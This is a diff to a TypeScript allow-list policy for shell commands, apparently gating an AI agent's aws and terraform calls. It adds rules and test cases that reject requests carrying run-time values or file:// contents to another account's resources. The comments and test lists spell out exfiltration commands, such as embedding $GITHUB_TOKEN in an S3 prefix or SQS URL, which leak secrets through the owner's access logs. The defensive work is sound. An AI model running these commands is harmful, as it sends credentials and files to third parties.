@@ -22,7 +22,10 @@
 //   operands; the operation's parser rejects an option it does not know before any call.
 //   Not approved: `--debug` (its log prints the session token of temporary credentials),
 //   `--endpoint-url` to anything but this machine (a signed request, and `file://` parameter
-//   contents, sent to another host), `--cli-auto-prompt` (an interactive command builder).
+//   contents, sent to another host), `--cli-auto-prompt` (an interactive command builder),
+//   a word known only when it runs (the resource a request names may be another account's,
+//   which logs it), and s3api's `file://`/`fileb://` values (a file's contents in a request
+//   to a bucket's owner, whoever that is).
 // - terraform: show, output, validate, graph, providers (and `providers schema`), version,
 //   modules, `metadata functions`, `state list|show|pull`, `workspace list|show`, `fmt` only
 //   with -check or -write=false, any command with -help. Those that start the providers
@@ -233,14 +236,27 @@ const awsVerbRead = all(
 const awsRead = all(
   awsBase(),
   not(command("aws").option("--endpoint-url", isNot(LOOPBACK_URL))),
-  // (an S3 path known only when it runs: the bucket and key a request names reach the
-  // bucket's owner, its access log — `aws s3 ls "s3://theirs/$GITHUB_TOKEN"`. A regex
-  // that matches no word: not known for such a word only)
-  not(command("aws").positional(0, "s3").anyPositional(/[^\s\S]/)),
-  // (so does every word of an s3api request: the bucket, key, prefix, start-after or
-  // version a parameter names is in the request the bucket's owner logs, failed or not —
-  // `aws s3api list-objects-v2 --bucket theirs --prefix "x$GITHUB_TOKEN"`)
+  // (a word known only when it runs, in any request: the resource a request names may be
+  // another account's, and its owner logs the request — an S3 bucket's access log holds
+  // the bucket, key, prefix, start-after or version, failed or not, and CloudTrail records
+  // a cross-account call, its parameters with it, in the resource owner's account too:
+  // `aws s3 ls "s3://theirs/$GITHUB_TOKEN"`, `aws s3api list-objects-v2 --bucket theirs
+  // --prefix "x$GITHUB_TOKEN"`, `aws sqs get-queue-attributes --queue-url
+  // "https://sqs.…/THEIRS/$T"`, `--queue-url="…/$T"`. A regex that matches no word: not
+  // known for such a word only. The global options' values — `aws s3 ls --profile "$P"`,
+  // `--region`, `--query` — stay on this machine or name AWS's own endpoint: with no
+  // operation parameter (each is an option the spec lacks), only an operand may carry one)
+  any(
+    not(command("aws").arg(/[^\s\S]/)),
+    command("aws").knownOptions().and(not(command("aws").anyPositional(/[^\s\S]/))),
+  ),
+  // (every word of an s3api request: its global options' too)
   not(command("aws").positional(0, "s3api").arg(/[^\s\S]/)),
+  // (nor a parameter read from a file — awscli loads a `file://` or `fileb://` value's
+  // contents as the value, `--cli-input-json file://…` too: a word known only when it
+  // runs, which an s3api request takes to the bucket's owner, whoever that is — `aws s3api
+  // list-objects-v2 --bucket theirs --prefix file://notes.txt`)
+  not(command("aws").positional(0, "s3api").arg(/^(?:--[^=]*=)?fileb?:\/\//i)),
   any(
     awsVerbRead,
     ...Object.entries(AWS_OTHER_READS).map(([svc, ops]) => awsOp(svc, ops)),
@@ -378,6 +394,8 @@ export const infra: Family = {
     "aws s3api list-objects-v2 --bucket my-bucket --prefix logs/",
     "aws s3api head-object --bucket my-bucket --key a.txt",
     "aws s3api get-bucket-policy --bucket my-bucket",
+    "aws dynamodb get-item --table-name t --key file://key.json",
+    "aws ec2 describe-instances --filters \"Name=tag:env,Values=prod\"",
     "aws s3 ls s3://my-bucket --recursive --human-readable",
     "aws sts get-caller-identity",
     "aws iam list-roles --profile prod",
@@ -468,6 +486,9 @@ export const infra: Family = {
     "aws ec2 describe-vpn-connections", "aws amplify get-app --app-id a", "aws codepipeline get-job-details --job-id j",
     // (an S3 request that carries a word known only when it runs)
     "aws s3api list-objects-v2 --bucket theirs --prefix \"x$GITHUB_TOKEN\"", "aws s3api head-object --bucket \"b-$T\" --key k",
+    "aws sqs get-queue-attributes --queue-url \"https://sqs.us-east-1.amazonaws.com/999/$T\"", "aws ec2 describe-instances --filters \"Name=tag:x,Values=$T\"",
+    "aws s3api list-objects-v2 --bucket theirs --prefix file://notes.txt", "aws s3api list-objects-v2 --bucket theirs --prefix=fileb://notes.txt",
+    "aws s3api list-objects-v2 --cli-input-json file://params.json",
     // (providers started in a directory -chdir names)
     "terraform -chdir=infra validate", "terraform -chdir=infra state show aws_instance.web",
     "terraform output db_password", "terraform state pull", "terraform show -json", "terraform output -raw db_password", "terraform output -json",
